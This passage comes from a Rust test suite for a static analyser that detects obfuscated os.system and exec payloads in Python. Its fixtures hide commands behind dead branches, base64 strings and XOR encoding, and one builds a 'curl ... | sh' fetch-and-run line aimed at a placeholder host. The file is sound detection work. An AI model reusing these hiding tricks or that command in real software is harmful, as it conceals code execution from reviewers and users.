        "if sys.platform == 'plan9':\n    x = ''",
        "try:\n    import nonexistent_mod\n    x = ''\nexcept ImportError:\n    pass",
        "for a in sys.argv[5:]:\n    x = ''",
    ] {
        let src = format!("import sys\nx = {build}\n{hide}\nexec(x)\n");
        assert!(callees(&src).contains(&"os.system".to_string()), "{src}");
    }
}

/// Every folded text among the arguments of the file's `os.system` call.
fn system_texts(src: &str) -> Vec<String> {
    module_facts(src)
        .facts
        .iter()
        .find_map(|x| match &x.kind {
            FactKind::Call(c) if c.callee == "os.system" => Some(c.arg_strings.clone()),
            _ => None,
        })
        .unwrap_or_default()
}

#[test]
fn texts_a_branch_may_have_replaced_are_still_checked() {
    // The walk binds a name's last assignment, though the branch that made it may never run:
    // `cmd = 'curl ...'; if sys.platform == 'plan9': cmd = 'echo'` ran `os.system('echo')`
    // for the walk, and a plain payload exec'd the same way looked like `exec('')`.
    for hide in [
        "if sys.platform == 'plan9':\n    cmd = 'echo'",
        "if sys.platform == 'plan9':\n    cmd = 'echo'\nelif sys.argv:\n    cmd = 'true'",
        "try:\n    import nonexistent_mod\n    cmd = 'echo'\nexcept ImportError:\n    pass",
        "for a in sys.argv[5:]:\n    cmd = 'echo'",
    ] {
        let src = format!("import os, sys\ncmd = 'id -u'\n{hide}\nos.system(cmd)\n");
        let texts = system_texts(&src);
        assert!(texts.contains(&"id -u".to_string()), "{src}: {texts:?}");
    }
    // Each branch's text, not only the last one's.
    let src = "import os, sys\nif sys.argv:\n    cmd = 'id -u'\nelse:\n    cmd = 'echo'\nos.system(cmd)\n";
    assert!(system_texts(src).contains(&"id -u".to_string()), "{src}");
    // exec of a name a dead branch emptied: the earlier code is scanned.
    let src = "import sys\ncode = \"import os; os.system('id')\"\nif sys.platform == 'plan9':\n    code = ''\nexec(code)\n";
    assert!(callees(src).contains(&"os.system".to_string()), "{src}");
    // A later plain assignment replaces them all.
    let src = "import os, sys\ncmd = 'id -u'\nif sys.platform == 'plan9':\n    cmd = 'echo'\ncmd = 'true'\nos.system(cmd)\n";
    assert_eq!(system_texts(src), vec!["true".to_string()]);
    // A function a dead branch replaced is still called: a call fact for each.
    let src =
        "import os, sys\nf = os.system\nif sys.platform == 'plan9':\n    f = print\nf('id')\n";
    let names = callees(src);
    assert!(names.contains(&"os.system".to_string()), "{names:?}");
    assert!(names.contains(&"builtins.print".to_string()), "{names:?}");
}

#[test]
fn choices_the_walk_cannot_make_keep_every_value() {
    // `import os\nos.system('id')\n`, base64, picked by a test or key that does not fold.
    let p = "'aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo='";
    for pick in [
        format!("x = '' if sys.platform == 'plan9' else {p}"),
        format!("x = {{'linux': {p}}}.get(sys.platform, '')"),
        format!("x = {{'linux': {p}}}[sys.platform]"),
        format!("x = [{p}, ''][sys.platform == 'plan9']"),
        format!("x = (lambda: '' if sys.platform == 'plan9' else {p})()"),
    ] {
        let src = format!("import base64, sys\n{pick}\nexec(base64.b64decode(x))\n");
        assert!(callees(&src).contains(&"os.system".to_string()), "{src}");
    }
    // Through a function of the file that only computes its result, not one that does more.
    let pick = format!(
        "def pick():\n    '''Stage.'''\n    return '' if sys.platform == 'plan9' else {p}\n"
    );
    let src = format!("import base64, sys\n{pick}exec(base64.b64decode(pick()))\n");
    assert!(callees(&src).contains(&"os.system".to_string()), "{src}");
    // One that changes something is not run again: `N` gets as many items as with no choice.
    let appended = |ret: &str| {
        let src = format!(
            "import os, sys\nN = []\ndef pick():\n    N.append(1)\n    return {ret}\n\
             os.system(pick())\nos.system(str(len(N)))\n"
        );
        module_facts(&src)
            .facts
            .iter()
            .rev()
            .find_map(|x| match &x.kind {
                FactKind::Call(c) if c.callee == "os.system" => Some(c.arg_strings.clone()),
                _ => None,
            })
            .unwrap_or_default()
    };
    assert_eq!(appended("'id' if sys.argv else 'uname'"), appended("'id'"));
    // Inside the call's argument too.
    let src = format!(
        "import base64, sys\nexec(base64.b64decode('' if sys.platform == 'plan9' else {p}))\n"
    );
    assert!(callees(&src).contains(&"os.system".to_string()), "{src}");
    // A test that folds makes the choice: the other value is not one.
    let src = "import os\nos.system('id' if False else 'uname')\n";
    assert_eq!(system_texts(src), vec!["uname".to_string()], "{src}");
    let src = "import os, sys\nos.system('id' if sys.argv else 'uname')\n";
    let texts = system_texts(src);
    assert!(
        texts.contains(&"id".to_string()) && texts.contains(&"uname".to_string()),
        "{texts:?}"
    );
}

#[test]
fn values_built_from_such_texts_are_followed() {
    // `import os\nos.system('id')\n`, base64: decoded from a name a dead branch emptied.
    let hidden = "import base64, sys\nx = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo='\n\
                  if sys.platform == 'plan9':\n    x = ''\n";
    for tail in [
        // Decoded and never exec'd here (written out for later): scanned where decoded.
        "data = base64.b64decode(x)\nopen('/tmp/m.py', 'wb').write(data)\n",
        "exec(base64.b64decode(x))\n",
        "y = x\ncode = base64.b64decode(y).decode()\nrun = exec\nrun(code)\n",
    ] {
        let src = format!("{hidden}{tail}");
        assert!(callees(&src).contains(&"os.system".to_string()), "{src}");
    }
    // Texts built from them reach call arguments.
    let cmd = "import os, sys\ncmd = 'id -u'\nif sys.platform == 'plan9':\n    cmd = 'echo'\n";
    let src = format!("{cmd}full = cmd + ' -a'\nos.system(full)\n");
    assert!(
        system_texts(&src).contains(&"id -u -a".to_string()),
        "{src}"
    );
    let src = format!("{cmd}os.system(cmd.upper())\n");
    assert!(system_texts(&src).contains(&"ID -U".to_string()), "{src}");
    // An expression that changes something is not evaluated again: `parts` gets one item.
    let src = format!("{cmd}parts = []\nn = parts.append(cmd)\nos.system(' '.join(parts))\n");
    assert_eq!(system_texts(&src), vec!["echo".to_string()], "{src}");
}

#[test]
fn a_loop_that_never_ends_as_folded_leaves_the_budget_to_the_rest() {
    // `want` never changes, so the replayed `while` spins: it ran until the file's folding
    // budget was spent, and the decoding loop after it no longer folded (`os.system(out)`
    // with `out` unknown). A pass that changes nothing now ends the loop as not folded.
    let spin = "import os\ndef spin(size):\n    if size is not None and size <= 0:\n        \
                size = None\n    want = size is None\n    while want:\n        want = size is None\n\
                spin(0)\n";
    let key: String = "curl -s http://example.invalid/p | sh"
        .chars()
        .map(|c| char::from(c as u8 ^ 1))
        .collect();
    let src = format!(
        "{spin}key = {key:?}\nout = ''\nfor c in key:\n    out += chr(ord(c) ^ 1)\nos.system(out)\n"
    );
    assert!(
        system_texts(&src).contains(&"curl -s http://example.invalid/p | sh".to_string()),
        "{src}"
    );
    // A loop whose passes change something still runs to its end.
    let src = "import os\ni = 0\ns = ''\nwhile i < 300:\n    s = s + 'ab'[i % 2]\n    i += 1\n\
               os.system(s[:4] + ' ' + str(len(s)))\n";
    assert!(system_texts(src).contains(&"abab 300".to_string()), "{src}");
}
